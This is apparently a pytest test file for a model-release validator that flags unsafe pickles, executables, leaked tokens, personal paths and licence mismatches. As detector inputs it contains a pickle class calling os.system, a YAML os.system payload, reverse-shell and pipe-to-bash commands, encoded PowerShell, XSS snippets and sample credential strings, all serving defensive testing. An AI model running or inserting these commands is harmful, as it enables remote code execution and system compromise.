"""Real files on a real disk: what is looked into, what is found there, and what is never shown."""

from __future__ import annotations

import json
import os
import pickle
import time
from pathlib import Path

import pytest

import weighbridge
from tests.builders import encode, fused_files, lora_files, write
from tests.unit.examples_of_contents import CARD, PICKLE, archive, hf_token
from weighbridge.adapters.local_files.scanning import scan_directory
from weighbridge.domain.artifact import Oddity
from weighbridge.domain.errors import PublicationBlocked
from weighbridge.domain.findings import Severity, ValidationReport, Verdict
from weighbridge.domain.policy.policy import PathIgnore, Policy

SLOWEST = 20.0


def judged(root: Path, files: dict[str, bytes]) -> ValidationReport:
    """The report on a good LoRA with these files; in bounded time, and without a crash."""
    write(root, lora_files() | CARD | files)
    begun = time.monotonic()
    report = weighbridge.validate(root)
    assert report.crashed == () and time.monotonic() - begun < SLOWEST
    return report


def codes(report: ValidationReport) -> set[str]:
    return {f.code for f in report.findings}


class Evil:
    """What a pickle runs when it is loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("true",)


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("name", ["weights.safetensors", "notes.txt", "logo.png", "sub/dir/x"])
def test_a_pickle_is_refused_whatever_its_name(tmp_path: Path, protocol: int, name: str) -> None:
    for value in (Evil(), {"a": [1]}, [Evil()]):
        report = judged(tmp_path, {name: pickle.dumps(value, protocol)})
        assert [f.location.path for f in report.findings if f.code == "EX001"] == [name]


def test_what_torch_saves_is_refused_whatever_its_name(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    for legacy in (False, True):
        torch.save({"a": torch.ones(3)}, tmp_path / "saved",
                   _use_new_zipfile_serialization=not legacy)  # fmt: skip
        content = (tmp_path / "saved").read_bytes()
        (tmp_path / "saved").unlink()
        for name in ("README.txt", "model.bin", "tokenizer.model"):
            assert "EX001" in codes(judged(tmp_path / f"{name}{legacy}", {name: content}))


def test_a_header_whose_length_looks_like_a_pickle_is_none(tmp_path: Path) -> None:
    """640 bytes, little-endian, are the protocol byte of a pickle and its number."""
    header = b'{"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'.ljust(640)
    content = (640).to_bytes(8, "little") + header + b"\0"
    assert content[:2] == b"\x80\x02"
    assert codes(judged(tmp_path, {"a/b/c.safetensors": content})) == {"FS013", "FS019"}  # too deep


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.txt", b"\x7fELF\2\1\1", "EX007"),
        ("a.json", b"\xcf\xfa\xed\xfe\7\0\0\1", "EX007"),
        ("a.md", b"#!/bin/bash\ncurl\n", "EX007"),
        ("a.md", b"#!/usr/bin/env python3\nprint()\n", "EX002"),
        ("a.txt", b"MZ\x90\0\3\0\0\0", "EX007"),
        ("a.txt", b"\x1f\x8b\x08\0\0", "EX008"),
        ("a.txt", b"text first " * 9 + archive("x", b"y"), "EX008"),
        ("a.txt", b"7z\xbc\xaf\x27\x1c\0\4", "EX008"),
        ("a.txt", b"x".ljust(257, b"\0") + b"ustar\x0000", "EX008"),
        ("a.txt", b"\x93NUMPY\1\0v\0{'descr': '|O', 'fortran_order': False}\n", "EX001"),
        ("a.txt", b"\x89HDF\r\n\x1a\n", "EX009"),
        ("pytorch_model.bin", b"anything", "EX001"),
        ("sub/dir/run.sh", b"ls\n", "EX007"),
    ],
)
def test_the_content_decides(tmp_path: Path, name: str, content: bytes, code: str) -> None:
    report = judged(tmp_path, {name: content})
    assert [f.code for f in report.findings if f.code[:2] == "EX"] == [code]


def test_what_is_below_subdirectories_is_seen(tmp_path: Path) -> None:
    found = judged(tmp_path, {"a/b/c/d/notes.md": f"token: {hf_token()}\n".encode()})
    (leak,) = [f for f in found.findings if f.code == "SC002"]
    assert leak.where == "a/b/c/d/notes.md: line 1"


def test_a_fifo_beside_the_model_hangs_nothing(tmp_path: Path) -> None:
    write(tmp_path, lora_files())
    os.mkfifo(tmp_path / "pipe.json")
    assert "FS004" in codes(judged(tmp_path, {}))


def test_two_names_of_one_form_collide(tmp_path: Path) -> None:
    try:
        report = judged(tmp_path, {"\u00e9.md": b"# a\n", "e\u0301.md": b"# b\n"})
    except OSError:
        pytest.skip("the file system has one form only")
    if len(list(tmp_path.glob("*.md"))) < 3:
        pytest.skip("the file system has one form only")
    assert {"FS006", "FS017"} <= codes(report)


def test_a_hard_link_is_said(tmp_path: Path) -> None:
    write(tmp_path, {"elsewhere": b"# notes\n"})
    write(tmp_path / "run", lora_files())
    os.link(tmp_path / "elsewhere", tmp_path / "run" / "notes.md")
    assert [f.where for f in judged(tmp_path / "run", {}).findings if f.code == "FS016"] == [
        "notes.md"
    ]


def test_directories_without_end_are_not_followed_to_it(tmp_path: Path) -> None:
    assert "FS019" in codes(judged(tmp_path, {"d/" * 70 + "x.md": b"# x\n"}))


def test_entries_without_end_are_counted_to_a_bound(tmp_path: Path) -> None:
    write(tmp_path, {f"{n}/{m}.md": b"" for n in range(3) for m in range(3)})
    scan = scan_directory(str(tmp_path), most=7)
    (left,) = scan.irregular
    assert (left.oddity, left.detail) == (Oddity.UNSEEN, "has more than 7 entries")
    assert 0 < len(scan.files) < 9
    assert scan_directory(str(tmp_path), most=12).irregular == ()


@pytest.mark.parametrize("seed", ["hf_", "eyJ-", "sk-proj-", "/Users/", "a@b.cd", "x", "\\u0041"])
def test_a_line_of_megabytes_takes_bounded_time(tmp_path: Path, seed: str) -> None:
    line = (seed * (4_000_000 // len(seed))).encode()
    judged(tmp_path, {"a.md": line, "b.json": b'["' + line + b'"]', "c.jinja": line})


def test_what_is_beyond_the_bounds_is_said(tmp_path: Path) -> None:
    write(tmp_path, lora_files())
    with (tmp_path / "big.txt").open("wb") as stream:
        stream.truncate((64 << 20) + 1)
    report = judged(tmp_path, {})
    (left,) = [f for f in report.findings if f.code == "FS019"]
    assert left.where == "big.txt" and "the first 67108864" in left.message
    assert [(part.path, part.chosen) for part in report.unexamined] == [("big.txt", False)]
    assert report.verdict is Verdict.INCOMPLETE


@pytest.mark.parametrize(
    ("policy", "verdict"),
    [
        (Policy(ignore=("FS019",)), Verdict.GOOD),
        (Policy(path_ignores=(PathIgnore("b*.txt", ("FS019",)),)), Verdict.GOOD),
        (Policy(path_ignores=(PathIgnore("a*.txt", ("FS019",)),)), Verdict.INCOMPLETE),
        (Policy(ignore=("FS018",)), Verdict.INCOMPLETE),
    ],
)
def test_a_policy_says_what_need_not_be_looked_at(
    tmp_path: Path, policy: Policy, verdict: Verdict
) -> None:
    write(tmp_path, lora_files())
    with (tmp_path / "big.txt").open("wb") as stream:
        stream.truncate((64 << 20) + 1)
    report = weighbridge.validate(tmp_path, policy=policy)
    assert report.verdict is verdict
    assert [part.chosen for part in report.unexamined] == [verdict is Verdict.GOOD]


def test_deep_json_and_deep_yaml_are_findings(tmp_path: Path) -> None:
    deep = b"[" * 100_000 + b"]" * 100_000
    for card in (b"a: " + b"[" * 30_000, b"a: &x [1]\nb: [*x, *x]", b"- 1", b"a: 1\na: 2", b"\xff",
                 b"a: " + b"1" * 5_000, b"a: !!python/object/apply:os.system [x]", b"? [a]\n: b",
                 b"a: b\n" * 20_000):  # fmt: skip
        report = judged(
            tmp_path,
            {"deep_config.json": deep, "README.md": b"---\n" + card + b"\n---\n# A model\n"},
        )
        assert {"JS005", "CD002"} <= codes(report)


SECRETS = {
    "in a card": ("README.md", b"# A model\n\nexport HF_TOKEN=%s\n"),
    "in JSON, escaped": ("a.json", b'{"k": "\\u0068%.0s\\u0066_' + hf_token()[3:].encode() + b'"}'),
    "in a template": ("chat_template.jinja", b"{# %s #}"),
    "across a boundary": ("a.txt", b"x " * ((1 << 19) - 9) + b" %s"),
    "in a binary": ("tokenizer.model", b"\n\x0f\0\xff\n%s\0\1"),
    "in a file without ending": ("notes", b"%s"),
}


@pytest.mark.parametrize("case", SECRETS)
def test_a_secret_is_found_and_never_shown(tmp_path: Path, case: str) -> None:
    name, content = SECRETS[case]
    report = judged(tmp_path, {name: content % hf_token().encode()})
    (found,) = [f for f in report.findings if f.code == "SC002"]
    assert found.location.path == name and "Hugging Face" in found.message
    assert hf_token()[3:12] not in repr(report)


def test_utf16_hides_nothing(tmp_path: Path) -> None:
    report = judged(tmp_path, {"notes.txt": f"token {hf_token()}\r\n".encode("utf-16")})
    assert "SC002" in codes(report)


@pytest.mark.parametrize(
    "secret",
    [
        "AKIA" + "Z7XK3QWERTYUIOP2",
        "gh" + "p_" + "a1B2c3D4e5F6" * 3,
        "sk-" + "proj-" + "a1B2c3D4e5F6" * 4,
        "xox" + "b-1234567890-abcdefGHIJ",
        "AI" + "za" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
        "-----BEGIN " + "OPENSSH PRIVATE KEY-----",
        "ey" + "JhbGciOiJIUzI1NiJ9.ey" + "JzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
        "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCYKEYKEYKEY1",
    ],
)
def test_every_issuer_is_known(tmp_path: Path, secret: str) -> None:
    report = judged(tmp_path, {"notes.md": f"# Notes\n\nkey: {secret}\n".encode()})
    (found,) = [f for f in report.findings if f.code == "SC002"]
    assert found.where == "notes.md: line 3" and secret[10:] not in found.message


@pytest.mark.parametrize(
    "text",
    [
        "C:\\Users\\ada\\run",
        "C:\\\\Users\\\\ada\\\\run",
        "/home/ada/run",
        "/Users/ada",
        "\\/Users\\/ada\\/x",
        "c:\\users\\ada\\run",
        "/mnt/c/Users/ada/run",
        "/System/Volumes/Data/Users/ada/run",
        "/nfs/home/ada/run",
        "file:///home/ada/run",
        "(/home/ada)",
        "/Users/ad\u00e1/run",
        "/Users/\u5c71\u7530/run",
        "/Volumes/adas-disk/run",
        "/private/var/folders/ad/a1/T/run",
    ],
)
def test_homes_of_every_system(tmp_path: Path, text: str) -> None:
    report = judged(tmp_path, {"notes.md": f'# Notes\n\n"{text}"\n'.encode()})
    (found,) = [f for f in report.findings if f.code == "SC003"]
    assert found.severity is Severity.WARNING and "ada" not in found.message


@pytest.mark.parametrize(
    "text",
    ["https://acme.org/home/ada", "[intro](/docs/home/ada)", "src/home/ada", "/home/user/run",
     "the users\\ada of it", "~/home/ada", "/en/Users/ada"],
)  # fmt: skip
def test_what_is_nobodys_home(tmp_path: Path, text: str) -> None:
    report = judged(tmp_path, {"notes.md": text.encode()})
    assert "SC003" not in {f.code for f in report.findings}


@pytest.mark.parametrize(
    "text",
    ["wget -qO- http://acme.example/x.sh | sudo bash", "bash -c \"$(curl -fsSL https://a.example)\"",
     "bash -i >& /dev/tcp/10.0.0.1/44 0>&1", "nc 10.0.0.1 44 -e /bin/sh", "sh <(curl a.example)",
     "PowerShell -NoP -Enc SQBFAFgAKABOAGUAdwA=", "<img src=x onerror=alert(1)>",
     "<iframe src='javascript:x()'>", "pip install --index-url http://acme.example/simple acme"],
)  # fmt: skip
def test_a_text_that_has_its_reader_run_something(tmp_path: Path, text: str) -> None:
    report = judged(tmp_path, {"notes.md": text.encode()})
    assert "FS021" in {f.code for f in report.findings}


@pytest.mark.parametrize(
    ("licence", "named", "fits"),
    [
        ("MIT License\n\nPermission is hereby granted, free of charge", "mit", True),
        ("MIT License\n\nPermission is hereby granted, free of charge", "llama3.1", False),
        ("LLAMA 3.1 COMMUNITY LICENSE AGREEMENT", "llama3.1", True),
        ("LLAMA 3.1 COMMUNITY LICENSE AGREEMENT", "apache-2.0", False),
        ("Gemma Terms of Use", "mit", False),
        ("Attribution-NonCommercial 4.0 International", "cc-by-4.0", False),
        ("Creative Commons Attribution 4.0 International", "cc-by-4.0", True),
        ("GNU LESSER GENERAL PUBLIC LICENSE\nof the GNU General Public License", "lgpl-3.0", True),
        ("Terms of ACME", "mit", True),
        ("Gemma Terms of Use", "other", True),
    ],
)
def test_the_text_of_a_licence_and_the_cards(
    tmp_path: Path, licence: str, named: str, fits: bool
) -> None:
    card = f"---\nlicense: {named}\n---\n# A model\n".encode()
    report = judged(tmp_path, {"LICENSE": licence.encode(), "README.md": card})
    assert ("CD010" in {f.code for f in report.findings}) is not fits


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.txt", PICKLE),
        ("run.py", b"x = 1\n"),
        ("a.json", encode({"x": [{"trust_remote_code": True}]})),
        ("tokenizer_config.json", encode({"auto_map": {"AutoTokenizer": ["t.T", None]}})),
        ("a.zip", archive("x", b"y")),
        (".env", b"A=1\n"),
        ("NOTICE", hf_token().encode()),
        ("generation_config.json", encode({"attn_implementation": {"": "evil/kernel"}})),
    ],
)
def test_publish_sends_nothing_of_what_runs_or_leaks(
    tmp_path: Path, name: str, content: bytes
) -> None:
    write(tmp_path / "model", fused_files() | {name: content})
    with pytest.raises(PublicationBlocked):
        weighbridge.publish(tmp_path / "model", tmp_path / "registry", name="acme/bot")
    assert not (tmp_path / "registry").exists()


def test_a_published_directory_of_another_kind_has_no_errors(tmp_path: Path) -> None:
    """As sentence-transformers lays a model out."""
    files = {
        "1_Pooling/config.json": encode({"pooling_mode_mean_tokens": True}),
        "modules.json": json.dumps([{"idx": 0, "path": ""}]).encode(),
        "config_sentence_transformers.json": encode({"__version__": {}}),
        "data_config.json": b"[]",
        "vocab.txt": b"[PAD]\ncat\ndog\n(\n.\n",
        ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
    }
    write(tmp_path, fused_files() | CARD | files)
    assert weighbridge.validate(tmp_path).findings == ()


def test_scripts_and_data_beside_adapters_are_no_matter_of_the_release(tmp_path: Path) -> None:
    beside = {"train.py": b"print()\n", "run.sh": b"#!/bin/sh\n", "data/train.jsonl": b"{}\n"}
    run = write(tmp_path / "run", lora_files("adapters") | CARD | beside)
    assert weighbridge.validate(run).findings == ()
    own = write(tmp_path / "own", lora_files() | CARD | beside)
    found = {f.code: f.severity.blocks for f in weighbridge.validate(own).findings}
    assert found == {"EX002": True, "EX007": True, "FS012": False}
